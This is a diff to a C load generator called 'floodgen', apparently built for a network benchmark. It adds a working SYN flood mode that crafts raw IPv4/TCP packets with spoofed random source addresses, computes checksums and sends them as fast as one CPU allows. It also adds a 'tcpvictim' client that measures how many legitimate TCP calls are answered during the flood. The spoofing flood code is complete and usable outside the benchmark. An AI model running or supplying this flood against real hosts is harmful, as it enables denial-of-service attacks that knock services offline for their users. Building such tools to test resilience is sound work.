@@ -13,11 +13,22 @@
  *     sendmmsg, round robin over the sources, as fast as one CPU sends, for DURATION_MS.
  *     Prints one JSON line: sent (datagrams the kernel accepted).
  *
+ *   floodgen syn HOST PORT NET DURATION_MS
+ *     A SYN flood: TCP SYNs to HOST:PORT from random sources NET.128-NET.254 (NET: the first
+ *     three octets, "198.18.0"), spoofed through a raw socket, as fast as one CPU sends.
+ *     Prints one JSON line: sent.
+ *
+ *   floodgen tcpvictim HOST PORT FROM RATE DURATION_MS HEX
+ *     The well-behaved client over TCP: at most RATE times a second, one after the other, a new
+ *     connection from FROM, one call, its reply, close; counted answered when that took at most
+ *     1 s. Prints the same JSON line as victim.
+ *
  * IPv4 only (the benchmark's link). Every loop is bounded by its duration.
  */
 #define _GNU_SOURCE
 #include <arpa/inet.h>
 #include <errno.h>
+#include <fcntl.h>
 #include <netinet/in.h>
 #include <poll.h>
 #include <stdint.h>
@@ -187,11 +198,135 @@ static int flood(char **argv) {
   return 0;
 }
 
+static uint16_t csum(const unsigned char *p, size_t n, uint32_t sum) {
+  for (size_t i = 0; i + 1 < n; i += 2) sum += (uint32_t)(p[i] << 8 | p[i + 1]);
+  if (n & 1) sum += (uint32_t)p[n - 1] << 8;
+  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
+  return (uint16_t)~sum;
+}
+
+static int syn(char **argv) {
+  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[3]))};
+  char src[32];
+  if (inet_pton(AF_INET, argv[2], &to.sin_addr) != 1) return 2;
+  double end = now_us() + atof(argv[5]) * 1000;
+  int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
+  if (fd < 0) die("raw socket");
+  unsigned char pkt[40];
+  uint32_t rnd = 0x9e3779b9u;
+  long long sent = 0;
+  while (now_us() < end) {
+    for (int k = 0; k < 64; k++) {
+      rnd ^= rnd << 13;
+      rnd ^= rnd >> 17;
+      rnd ^= rnd << 5;
+      snprintf(src, sizeof src, "%s.%u", argv[4], 128 + rnd % 127);
+      struct in_addr s;
+      if (inet_pton(AF_INET, src, &s) != 1) return 2;
+      memset(pkt, 0, sizeof pkt);
+      pkt[0] = 0x45;
+      pkt[8] = 64;
+      pkt[9] = IPPROTO_TCP;
+      memcpy(pkt + 12, &s, 4);
+      memcpy(pkt + 16, &to.sin_addr, 4);
+      unsigned char *t = pkt + 20;
+      t[0] = (unsigned char)((1024 + rnd % 60000) >> 8);
+      t[1] = (unsigned char)(1024 + rnd % 60000);
+      memcpy(t + 2, &to.sin_port, 2);
+      put32(t + 4, rnd);
+      t[12] = 5 << 4;
+      t[13] = 0x02; /* SYN */
+      t[14] = 0xfa;
+      t[15] = 0xf0;
+      /* pseudo-header: source, destination, protocol, TCP length */
+      uint32_t sum = 0;
+      for (int i = 12; i < 20; i += 2) sum += (uint32_t)(pkt[i] << 8 | pkt[i + 1]);
+      sum += IPPROTO_TCP + 20;
+      uint16_t c = csum(t, 20, sum);
+      t[16] = (unsigned char)(c >> 8);
+      t[17] = (unsigned char)c;
+      if (sendto(fd, pkt, sizeof pkt, 0, (struct sockaddr *)&to, sizeof to) == sizeof pkt) sent++;
+      else if (errno != ENOBUFS && errno != EAGAIN && errno != EINTR) die("sendto");
+    }
+  }
+  printf("{\"sent\":%lld}\n", sent);
+  return 0;
+}
+
+/* One connection, one call, its reply: microseconds taken, or -1 when not within 1 s. */
+static double tcp_call(const char *from, const char *host, int port, const unsigned char *rec, size_t len) {
+  double t0 = now_us(), deadline = t0 + ANSWER_WITHIN_US;
+  struct sockaddr_in a = {.sin_family = AF_INET}, to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
+  if (inet_pton(AF_INET, from, &a.sin_addr) != 1 || inet_pton(AF_INET, host, &to.sin_addr) != 1) exit(2);
+  int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
+  if (fd < 0) die("socket");
+  if (bind(fd, (struct sockaddr *)&a, sizeof a) < 0) die("bind");
+  double result = -1;
+  if (connect(fd, (struct sockaddr *)&to, sizeof to) < 0 && errno != EINPROGRESS) goto out;
+  struct pollfd p = {.fd = fd, .events = POLLOUT};
+  if (poll(&p, 1, (int)((deadline - now_us()) / 1000) + 1) != 1 || (p.revents & (POLLERR | POLLHUP))) goto out;
+  if (write(fd, rec, len) != (ssize_t)len) goto out;
+  unsigned char in[512];
+  size_t got = 0;
+  while (now_us() < deadline) {
+    p.events = POLLIN;
+    if (poll(&p, 1, (int)((deadline - now_us()) / 1000) + 1) != 1) break;
+    ssize_t n = read(fd, in + got, sizeof in - got);
+    if (n <= 0) break;
+    got += (size_t)n;
+    if (got >= 4 && got >= 4 + (get32(in) & 0x7fffffffu)) {
+      if (now_us() <= deadline) result = now_us() - t0;
+      break;
+    }
+    if (got == sizeof in) break;
+  }
+out:
+  close(fd);
+  return result;
+}
+
+static int tcpvictim(char **argv) {
+  const char *host = argv[2], *from = argv[4];
+  int port = atoi(argv[3]);
+  double rate = atof(argv[5]), duration_us = atof(argv[6]) * 1000;
+  unsigned char rec[MAX_MSG_BYTES + 4];
+  size_t len = unhex(argv[7], rec + 4);
+  put32(rec, 0x80000000u | (uint32_t)len);
+  uint32_t *hist = calloc(ANSWER_WITHIN_US + 1, sizeof *hist);
+  if (!hist) die("calloc");
+  long sent = 0, answered = 0;
+  double t0 = now_us();
+  while (now_us() < t0 + duration_us) {
+    double next = t0 + sent * 1e6 / rate;
+    while (now_us() < next) usleep(100);
+    put32(rec + 4, 0x5b000000u | (uint32_t)sent);
+    sent++;
+    double us = tcp_call(from, host, port, rec, len + 4);
+    if (us >= 0) {
+      answered++;
+      hist[(long)us]++;
+    }
+  }
+  printf("{\"sent\":%ld,\"answered\":%ld,\"late\":0,\"histogram\":[", sent, answered);
+  int first = 1;
+  for (long us = 0; us <= ANSWER_WITHIN_US; us++) {
+    if (!hist[us]) continue;
+    printf("%s[%ld,%u]", first ? "" : ",", us, hist[us]);
+    first = 0;
+  }
+  printf("]}\n");
+  return 0;
+}
+
 int main(int argc, char **argv) {
+  if (argc == 6 && strcmp(argv[1], "syn") == 0) return syn(argv);
+  if (argc == 8 && strcmp(argv[1], "tcpvictim") == 0) return tcpvictim(argv);
   if (argc == 8 && strcmp(argv[1], "victim") == 0) return victim(argv);
   if (argc == 7 && strcmp(argv[1], "flood") == 0) return flood(argv);
   fprintf(stderr,
           "usage: floodgen victim HOST PORT FROM RATE DURATION_MS HEX\n"
-          "       floodgen flood HOST PORT FROM[,FROM...] DURATION_MS HEX\n");
+          "       floodgen flood HOST PORT FROM[,FROM...] DURATION_MS HEX\n"
+          "       floodgen syn HOST PORT NET DURATION_MS\n"
+          "       floodgen tcpvictim HOST PORT FROM RATE DURATION_MS HEX\n");
   return 2;
 }
